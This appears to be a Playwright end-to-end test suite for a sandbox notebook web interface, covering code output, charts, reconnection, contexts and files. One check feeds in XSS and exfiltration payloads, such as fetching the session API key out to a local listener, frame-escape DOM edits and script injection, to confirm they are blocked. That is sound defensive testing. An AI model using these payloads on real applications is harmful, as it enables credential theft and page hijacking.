// Drives the page in a headless Chromium and says what it saw: a line for each check, see node.go.

import { createServer } from "node:http";
import { createRequire } from "node:module";

const { chromium } = createRequire(`${process.env.MODULES}/`)("playwright-core");
const { URL: url, KEY: key, BROWSER: executablePath } = process.env;
const SECOND = 1000;
const PATIENCE = 60 * SECOND;

const browser = await chromium.launch({
  executablePath, args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage"],
});

function assert(fact, text) {
  if (!fact) throw new Error(text);
}

function same(got, want) {
  assert(JSON.stringify(got) === JSON.stringify(want), `got ${JSON.stringify(got)}, want ${JSON.stringify(want)}`);
}

async function until(what, probe) {
  const end = Date.now() + PATIENCE;
  for (;;) {
    const value = await probe();
    if (value) return value;
    assert(Date.now() < end, `never: ${what}`);
    await new Promise((done) => setTimeout(done, 50));
  }
}

async function daemon(method, path, body) {
  const response = await fetch(url + path, { method, headers: { "X-API-Key": key }, body });
  assert(response.ok, `${method} ${path}: ${response.status}`);
  return response;
}

/** A fresh sandbox's id. */
const sandbox = async () => (await (await daemon("POST", "/sandboxes", JSON.stringify({ templateID: "base", timeout: 3600 }))).json()).sandboxID;
/** Lets code that waits for the file go on. */
const go = (id, name = "go") => daemon("PUT", `/sandboxes/${id}/workspace/${name}`, "");
const gate = (name = "go") => `import os, time\nwhile not os.path.exists("${name}"): time.sleep(0.01)\n`;

/** A tab with a session, signed in. */
async function open(id, options = {}, prepare = async () => {}) {
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 }, ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE);
  page.complaints = [];
  page.on("pageerror", (e) => page.complaints.push(e.stack));
  await prepare(page);
  await page.goto(`${url}/?token=${key}#/s/${id}`);
  await page.waitForSelector(".state.idle, .state.busy");
  page.last = () => page.locator(".cell .editor textarea").last();
  page.run = async (code) => {
    const area = page.last();
    await area.fill(code);
    await area.press("Shift+Enter");
  };
  page.over = async (n = 1) => {
    await page.waitForFunction((count) => document.querySelectorAll(".cell .figures:not(:empty)").length >= count, n);
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))); // text is drawn once a frame
  };
  page.texts = (selector) => page.locator(selector).allTextContents();
  return page;
}

async function close(page) {
  const { complaints } = page;
  await page.context().close();
  same(complaints, []);
}

const checks = {
  async "the key comes by the address and leaves it"() {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${url}/?token=${key}`);
    await page.waitForSelector("h1:has-text('Sandboxes')");
    same(page.url(), `${url}/`);
    same(await page.evaluate(() => document.cookie), "");
    await page.reload();
    await page.waitForSelector("h1:has-text('Sandboxes')");
    const other = await context.newPage();
    await other.goto(url);
    await other.locator("#key").fill("e2b_wrong");
    await other.keyboard.press("Enter");
    await other.waitForSelector(".wrong:has-text('does not know this key')");
    await other.locator("#key").fill(key);
    await other.keyboard.press("Enter");
    await other.waitForSelector("h1:has-text('Sandboxes')");
    await context.close();
  },

  async "sandboxes are made, opened and killed"() {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${url}/?token=${key}`);
    await page.click("text=New sandbox");
    await page.waitForSelector(".state.idle");
    const id = page.url().split("/").pop();
    await page.click(".brand");
    await page.click(`[aria-label="Kill ${id}"]`);
    await page.click("dialog >> text=Kill >> nth=-1");
    await until("it is off the list", async () => !(await page.locator(`text=${id}`).count()));
    await page.goto(`${url}/#/s/${id}`);
    await page.waitForSelector(".banner.bad:has-text('no such sandbox')");
    await context.close();
  },

  async "code runs and everything it shows is seen"() {
    const page = await open(await sandbox());
    await page.run("print('\\x1b[31mred\\x1b[0m <b>plain</b>')\nfor i in range(3): print(f'\\rstep {i}', end='')");
    await page.over(1);
    same(await page.textContent(".stdout .c1"), "red");
    same((await page.textContent(".stdout pre")).trim(), "red <b>plain</b>\nstep 2");
    await page.run("import pandas as pd\npd.DataFrame({'n': [3, 1, 2], 'name': ['<i>c', 'a', None]})");
    await page.over(2);
    same(await page.texts(".table tbody tr"), ["3<i>c", "1a", "2–"]);
    await page.click(".table thead button >> nth=0");
    same(await page.texts(".table tbody td.number"), ["1", "2", "3"]);
    await page.run("1 / 0");
    await page.over(3);
    assert((await page.textContent(".output.error")).includes("ZeroDivisionError: division by zero"), "the traceback");
    await page.run("print('a', flush=True)\nfrom IPython.display import clear_output, display\nclear_output()\nh = display('one', display_id=True)\nh.update('two')");
    await page.over(4);
    same((await page.locator(".cell").nth(3).locator(".outputs > .output .value").allTextContents()).map((t) => t.trim()), ["'two'"]);
    same(await page.texts(".prompt"), ["[1]", "[2]", "[3]", "[4]", ""]);
    await page.run("import os, threading, time\ndef late():\n    while not os.path.exists('go'): time.sleep(0.01)\n    print('from a thread')\nthreading.Thread(target=late).start()");
    await page.over(5);
    await go(page.url().split("/").pop());
    await page.waitForSelector(".cell >> nth=4 >> .stdout:has-text('from a thread')");
    await close(page);
  },

  async "charts are drawn from their data, with tooltips"() {
    const page = await open(await sandbox());
    await page.run("import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [10, 30, 20], label='one')\nplt.plot([1, 2, 3], [5, 5, 25], label='two')\nplt.title('Lines'); plt.legend(); plt.show()");
    await page.waitForSelector(".chart-line path.stroke");
    same(await page.locator(".chart-line path.stroke").count(), 2);
    same(await page.texts(".legend li"), ["one", "two"]);
    await page.locator(".canvas svg").hover();
    await page.waitForSelector(".tip:not([hidden])");
    same(await page.texts(".tip span"), ["one: 30", "two: 5"]);
    await page.click(".tab:has-text('Picture')");
    assert(await page.locator(".picture img").evaluate((i) => i.decode().then(() => i.naturalWidth > 100)), "the picture");
    await page.run("plt.bar(['a', 'b'], [3, -1]); plt.show()\nplt.pie([1, 3], labels=['x', 'y']); plt.show()\nplt.scatter([1, 2], [3, 4]); plt.show()\n"
      + "plt.boxplot([[1, 2, 3, 4, 9]], patch_artist=True); plt.show()\nfig, axs = plt.subplots(1, 2); axs[0].plot([1, 2]); axs[1].bar(['q'], [2]); plt.show()");
    await page.over(2);
    for (const [kind, n] of [["rect.column", 3], ["path.slice", 2], [".chart-scatter path.dots", 1], ["rect.box", 1], [".superchart .parts > *", 2]]) {
      await until(kind, async () => await page.locator(kind).count() === n);
    }
    await close(page);
  },

  async "the kernel completes and explains, by keyboard alone"() {
    const page = await open(await sandbox());
    await page.run("colour_of_the_sea = 'blue'\ncolour_of_the_sky = 'grey'");
    await page.over(1);
    await page.keyboard.type("colour_of");
    await page.keyboard.press("Tab");
    await page.waitForSelector(".matches li");
    same(await page.texts(".matches code"), ["colour_of_the_sea", "colour_of_the_sky"]);
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    same(await page.last().inputValue(), "colour_of_the_sky");
    await page.keyboard.press("Control+Enter");
    await page.over(2);
    same((await page.textContent(".output.value")).trim(), "'grey'");
    await page.last().fill("len");
    await page.keyboard.press("Shift+Tab");
    await page.waitForSelector(".help:has-text('Return the number of items')");
    await page.keyboard.press("Escape");
    await page.last().fill("if True:");
    await page.keyboard.press("Enter");
    same(await page.last().inputValue(), "if True:\n    ");
    await page.keyboard.press("Escape");
    await page.keyboard.press("b");
    same(await page.locator(".cell").count(), 3);
    await page.keyboard.press("d");
    await page.keyboard.press("d");
    same(await page.locator(".cell").count(), 2);
    await close(page);
  },

  async "input is asked for and answered"() {
    const page = await open(await sandbox());
    await page.run("print('hello', input('name? '))\nimport getpass\nprint(len(getpass.getpass('secret? ')))");
    await page.waitForSelector(".question input:focus");
    await page.keyboard.type("Ada");
    await page.keyboard.press("Enter");
    await page.locator(".question input[type=password]").fill("hunter2");
    await page.keyboard.press("Enter");
    await page.over(1);
    same((await page.texts(".stdout pre")).join("").trim(), "name? Ada\nhello Ada\nsecret? \n7");
    await close(page);
  },

  async "a reload in the middle of a run loses nothing"() {
    const id = await sandbox();
    const page = await open(id);
    await page.run(`for i in range(50): print("before", i, flush=True)\n${gate()}for i in range(50): print("after", i, flush=True)\n"the value"`);
    await page.last().fill("a draft that was not run");
    await page.waitForSelector(".stdout:has-text('before 49')");
    await page.reload();
    await page.waitForSelector(".state.busy");
    await page.waitForSelector(".stdout:has-text('before 49')");
    same(await page.last().inputValue(), "a draft that was not run");
    await go(id);
    await page.over(1);
    const lines = [...Array(50).keys()].map((i) => `before ${i}`).concat([...Array(50).keys()].map((i) => `after ${i}`));
    same((await page.textContent(".stdout pre")).trim().split("\n"), lines);
    same((await page.textContent(".output.value")).trim(), "'the value'");
    await close(page);
  },

  async "a lost connection comes back by itself and nothing is missing or doubled"() {
    const id = await sandbox();
    const sockets = [];
    const page = await open(id, {}, (p) => p.routeWebSocket(/\/events/, (socket) => {
      sockets.push(socket);
      socket.connectToServer();
    }));
    await page.run(`for i in range(20): print("before", i, flush=True)\n${gate()}for i in range(20): print("after", i, flush=True)`);
    await page.waitForSelector(".stdout:has-text('before 19')");
    await sockets[0].close({ code: 1011, reason: "a fault" });
    await until("it connects again", () => sockets.length > 1);
    await page.waitForSelector(".state.busy");
    await go(id);
    await page.over(1);
    same((await page.textContent(".stdout pre")).trim().split("\n").length, 40);
    await close(page);
  },

  async "what is run without a connection is not run, and says so"() {
    const sockets = [];
    let lost = false;
    const page = await open(await sandbox(), {}, (p) => p.routeWebSocket(/\/events/, (socket) => {
      sockets.push(socket);
      if (lost) void socket.close({ code: 1011, reason: "a fault" });
      else socket.connectToServer();
    }));
    lost = true;
    await sockets[0].close({ code: 1011, reason: "a fault" });
    await page.waitForSelector(".state.offline");
    await page.run("1 + 1");
    await page.waitForSelector(".note.bad:has-text('no connection')");
    lost = false;
    await page.waitForSelector(".state.idle");
    await page.locator(".cell .editor textarea").first().press("Control+Enter");
    await page.waitForSelector(".output.value:has-text('2')");
    await close(page);
  },

  async "several viewers see the same, and run the same cells"() {
    const id = await sandbox();
    const [one, two] = [await open(id), await open(id)];
    await one.run("x = 1\nx");
    await two.over(1);
    same(await two.locator(".cell .editor textarea").first().inputValue(), "x = 1\nx");
    const area = two.locator(".cell .editor textarea").first();
    await area.fill("x = 2\nx");
    await area.press("Control+Enter");
    await one.waitForSelector(".output.value:has-text('2')");
    same(await one.locator(".cell .editor textarea").first().inputValue(), "x = 2\nx");
    same((await one.texts(".output.value")).map((t) => t.trim()), ["2"]);
    same(await one.locator(".cell").count(), 2);
    await close(one);
    await close(two);
  },

  async "runs are interrupted and the interpreter restarted"() {
    const page = await open(await sandbox());
    await page.run("kept = 1\nwhile True: pass");
    await page.waitForSelector(".state.busy");
    await page.waitForSelector(".cell.running");
    await page.click("[aria-label=Interrupt]");
    await page.waitForSelector(".output.error:has-text('KeyboardInterrupt')");
    await page.click("[aria-label=Restart]");
    await page.click("dialog >> text=Restart >> nth=-1");
    await page.waitForSelector(".cell.stale");
    await page.run("kept");
    await page.waitForSelector(".output.error:has-text('NameError')");
    await close(page);
  },

  async "all cells are run again after a restart, until one fails"() {
    const page = await open(await sandbox());
    for (const [i, code] of ["x = globals().get('x', 0) + 1", "x", "1 / (x - 2)", "'never'"].entries()) {
      await page.run(code);
      await page.over(i + 1);
    }
    await page.run("x = 2");
    await page.over(5);
    await page.locator(".cell textarea").nth(2).fill("1 / (x - 1)");
    await page.click("[aria-label=Restart]");
    await page.click("dialog >> text=Restart and run all");
    await page.waitForSelector(".output.error:has-text('ZeroDivisionError')");
    same((await page.texts(".output.value")).map((t) => t.trim()), ["1", "'never'"]);
    same(await page.locator(".cell.stale").count(), 2);
    await close(page);
  },

  async "contexts are made, chosen and removed"() {
    const page = await open(await sandbox());
    await page.run("where = 'the first'");
    await page.over(1);
    await page.click("[aria-label=Contexts]");
    await page.waitForSelector("dialog .entry[aria-current]:has-text('python')");
    await page.click("dialog >> text=New context");
    await until("the other is shown", async () => (await page.locator(".contexts option").count()) === 2);
    await page.waitForSelector(".state.idle");
    same(await page.texts(".contexts option"), ["python", "python 2"]);
    await page.run("where");
    await page.waitForSelector(".output.error:has-text('NameError')");
    await page.selectOption(".contexts", { label: "python" });
    await page.waitForSelector(".cell[data-key] .prompt:text-is('[1]')");
    const other = await open(page.url().split("/").pop());
    await other.selectOption(".contexts", { label: "python 2" });
    await other.waitForSelector(".output.error:has-text('NameError')");
    await page.run("where");
    await page.waitForSelector(".output.value:has-text('the first')");
    await page.selectOption(".contexts", { label: "python 2" });
    await page.waitForSelector(".output.error:has-text('NameError')");
    await page.click("[aria-label=Contexts]");
    await page.click("[aria-label='Remove python 2']");
    await page.click("dialog >> text=Remove >> nth=-1");
    await page.waitForSelector(".output.value:has-text('the first')");
    await until("one is left", async () => await page.locator(".contexts").isHidden() && await page.locator("dialog .entry").count() === 1);
    await page.keyboard.press("Escape");
    await other.waitForSelector(".banner.bad:has-text('was removed')");
    await other.click(".banner button");
    await other.waitForSelector(".output.value:has-text('the first')");
    await close(other);
    await close(page);
  },

  async "a sandbox that is about to end says so, and can be kept"() {
    const id = await sandbox();
    await daemon("POST", `/sandboxes/${id}/timeout`, JSON.stringify({ timeout: 200 }));
    const page = await open(id);
    await page.waitForSelector(".banner:has-text('ends in 3 min')");
    await page.click(".banner button:has-text('Keep it longer')");
    await page.waitForSelector(".banner:has-text('ends in 3 min')", { state: "hidden" });
    await close(page);
  },

  async "a paused sandbox says so, and is resumed"() {
    const id = await sandbox();
    const page = await open(id);
    await page.run("x = 1");
    await page.over(1);
    await daemon("POST", `/sandboxes/${id}/pause`);
    await page.run("x + 1");
    await page.waitForSelector(".banner:has-text('is paused')");
    await page.click(".banner button:has-text('Resume')");
    await page.waitForSelector(".banner:has-text('is paused')", { state: "hidden" });
    await page.run("x + 2");
    await page.waitForSelector(".output.value:has-text('3')");
    await close(page);
  },

  async "what matters of an output is seen first"() {
    const page = await open(await sandbox());
    await page.run("def deep(n):\n    return deep(n - 1) if n else 1 / 0\ndeep(60)");
    await page.over(1);
    same(await page.locator(".output.error pre").evaluate((e) => e.scrollHeight > e.clientHeight && e.scrollTop + e.clientHeight >= e.scrollHeight - 2), true);
    await page.run("{1: True, 'b': [None]}");
    await page.over(2);
    same((await page.textContent(".output.value")).trim(), "{1: True, 'b': [None]}");
    await page.run("from IPython.display import JSON\nJSON({'a': 1})");
    await page.over(3);
    same((await page.locator(".output.value").last().textContent()).replace(/\s/g, ""), '{"a":1}');
    await page.run("import pandas as pd\npd.DataFrame({'n': [0.5, 2, -1.25, None, 1e-9]})");
    await page.over(4);
    same(await page.texts(".table tbody td"), ["0.50", "2.00", "-1.25", "–", "1e-9"]);
    await close(page);
  },

  async "files go up and down"() {
    const page = await open(await sandbox());
    await page.click("[aria-label=Files]");
    await page.setInputFiles("input[type=file]", { name: "a b.csv", mimeType: "text/csv", buffer: Buffer.from("n\n1\n") });
    await page.waitForSelector(".entry:has-text('a b.csv')");
    await page.run("open('out.txt', 'w').write(open('a b.csv').read() * 2)");
    await page.waitForSelector(".entry:has-text('out.txt')");
    const [download] = await Promise.all([page.waitForEvent("download"), page.click(".entry:has-text('out.txt')")]);
    const chunks = [];
    for await (const chunk of await download.createReadStream()) chunks.push(chunk);
    same(Buffer.concat(chunks).toString(), "n\n1\nn\n1\n");
    await close(page);
  },

  async "figures that draw themselves get their library in each frame"() {
    const page = await open(await sandbox());
    const library = "window.draw = (n) => { document.body.append('figure ' + n) }; // https://cdn.jsdelivr.net/ ";
    await page.run(`from IPython.display import *\ndisplay(HTML("<!--ds-sandbox library plot-1--><script>${library}" + "x" * 100_000 + "</script><!--ds-sandbox end--><script>draw(1)</script>"))\n`
      + "display(HTML('<!--ds-sandbox needs plot-1--><script>draw(2)</script>'))\ndisplay(HTML('<script src=\"https://cdn.example.com/x.js\"></script>'))");
    await page.over(1);
    const texts = () => Promise.all(page.frames().slice(1).map((f) => f.evaluate(() => document.body.innerText).catch(() => "")));
    await until("both are drawn", async () => (await texts()).filter((t) => /^figure [12]$/.test(t.trim())).length === 2);
    same(await page.locator(".note:has-text('wants scripts from the network')").count(), 1);
    await close(page);
  },

  async "hostile content gets nowhere"() {
    const heard = [];
    const server = createServer((request, response) => {
      heard.push(request.url);
      response.setHeader("Access-Control-Allow-Origin", "*");
      response.end();
    });
    await new Promise((done) => server.listen(0, "127.0.0.1", done));
    const host = `http://127.0.0.1:${server.address().port}`;
    const page = await open(await sandbox());
    const attacks = [
      "parent.document.title = 'taken'", "top.document.body.dataset.mark = 'top'", "parent.document.body.dataset.mark = 'parent'",
      `fetch('${host}/fetch'); new Image().src = '${host}/image'; navigator.sendBeacon('${host}/beacon')`,
      `parent.postMessage({ ready: true, html: '<b>' }, '*'); parent.postMessage({ height: '1px;background:url(${host}/css)' }, '*'); parent.postMessage(null, '*')`,
      `const s = document.createElement('script'); s.src = '${host}/script'; document.body.append(s)`, `import('${host}/module')`,
      `location = '${host}/location'`, `top.location = '${host}/top'`, `open('${host}/window')`,
      `document.body.innerHTML = '<iframe src="${host}/frame"></iframe><link rel=stylesheet href="${host}/style"><object data="${host}/object"></object>'`,
      `const f = document.createElement('form'); f.action = '${host}/form'; document.body.append(f); f.submit()`,
      `fetch('${host}/key?' + (parent.sessionStorage ?? sessionStorage).getItem('ds-sandbox-key'))`, `new WebSocket('${host.replace("http", "ws")}/socket')`,
      `new EventSource('${host}/source')`, `fetch('${url}/v2/sandboxes').then((r) => r.text()).then((t) => { location = '${host}/read' })`,
      "document.cookie = 'a=b'", "localStorage.x = 1", "parent.eval(\"document.body.dataset.mark = 'eval'\")",
    ];
    const mark = "<img src=x onerror=\\\"document.body.dataset.mark='x'\\\"><script>document.body.dataset.mark='x'</script>";
    await page.run(`from IPython.display import *\nattacks = ${JSON.stringify(attacks)}\nfor a in attacks: display(HTML("<p class=ran>frame</p><script>" + a + "</script>"))\n`
      + `display(Javascript("top.document.body.dataset.mark = 'js'; fetch('${host}/javascript')"))\n`
      + `display(HTML('<meta http-equiv=refresh content="0;url=${host}/refresh"><img src="${host}/img"><style>@import url(${host}/import)</style>'))\n`
      + `display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.document.body.dataset.mark=1"><script>top.document.body.dataset.mark=2</script><image href="${host}/svg"/></svg>'))`);
    await page.run(`mark = "${mark}"\nprint(mark)\ndisplay(Markdown(mark + "\\n\\n[a](javascript:alert(1)) ![i](${host}/md) " + mark))\n`
      + `import pandas as pd\ndisplay(pd.DataFrame({mark: [mark]}))\nimport matplotlib.pyplot as plt\nplt.plot([1, 2], label=mark); plt.legend(); plt.title(mark); plt.xlabel(mark); plt.show()\n`
      + `display({"text/latex": mark, "text/plain": mark}, raw=True)\ndisplay({mark: 1}, raw=True)\nopen(mark.replace("/", ""), "w").close()\nraise type(mark, (Exception,), {})(mark)`);
    await page.over(2);
    await page.click("[aria-label=Files]");
    await page.waitForSelector(".entry");
    const frames = await page.locator("iframe").all();
    for (const frame of frames) await frame.scrollIntoViewIfNeeded();
    // Those that did not leave tell their heights; for what should not happen there is a moment more.
    await until("frames are shown", async () => (await page.locator("iframe[style*=height]").count()) >= attacks.length - 4);
    await page.waitForTimeout(1000);
    const ran = await Promise.all(page.frames().slice(1).map((f) => f.locator(".ran").count().catch(() => 0)));
    assert(ran.reduce((a, b) => a + b, 0) >= attacks.length - 4, "the attacks ran in their frames");
    same(await page.locator("body").getAttribute("data-mark"), null);
    assert((await page.title()).includes("ds-sandbox"), "the title is ours");
    same(await page.locator("a[href^=javascript]").count(), 0);
    same(await page.locator(".markdown script, .markdown img, .table script, .table img, .chart script, .entries img").count(), 0);
    same(heard, []);
    await fetch(`${host}/alive`);
    same(heard, ["/alive"]);
    assert(page.url().startsWith(url), "nobody moved the page");
    same(page.context().pages().length, 1);
    server.close();
    await page.context().close();
  },

  async "it can be read on a phone, and in the dark"() {
    const id = await sandbox();
    const page = await open(id, { viewport: { width: 360, height: 700 }, colorScheme: "dark", isMobile: true, hasTouch: true });
    await page.run("print('x' * 300)\nimport pandas as pd\npd.DataFrame({f'column {i}': [i] for i in range(20)})");
    await page.over(1);
    const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth && document.querySelector("[aria-label=Files]").getBoundingClientRect().right <= innerWidth);
    same(await fits(), true);
    await page.click("[aria-label=Contexts]");
    await page.click("dialog >> text=New context");
    await page.waitForSelector(".contexts");
    await page.waitForSelector(".state.idle");
    same(await fits(), true);
    await page.selectOption(".contexts", { index: 0 });
    await page.over(1);
    same(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), "rgb(22, 25, 31)");
    assert(await page.locator(".run").first().isVisible(), "a button to run");
    await page.run("import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [10, 30, 20]); plt.show()");
    await page.waitForSelector(".chart-line path.stroke");
    await page.locator(".canvas svg").tap();
    await page.waitForSelector(".tip:not([hidden])"); // after the finger was lifted
    await page.locator(".state").tap();
    await page.waitForSelector(".tip", { state: "hidden" });
    await close(page);
  },

  async "the end of a sandbox is told"() {
    const id = await sandbox();
    const page = await open(id);
    await daemon("DELETE", `/sandboxes/${id}`);
    await page.waitForSelector(".banner.bad:has-text('has ended')");
    await page.waitForSelector(".state.ended");
    await close(page);
  },
};

const only = process.argv[2];
const waiting = Object.entries(checks).filter(([name]) => !only || name.includes(only));
const work = async () => {
  for (let next = waiting.shift(); next; next = waiting.shift()) {
    const [name, check] = next;
    try {
      await check();
      console.log(`ok ${name}`);
    } catch (e) {
      console.log(`FAIL ${name}: ${(e.stack ?? String(e)).replaceAll("\n", "\\n")}`);
    }
  }
};
await Promise.all([work(), work(), work()]); // most of their time they wait
await browser.close();
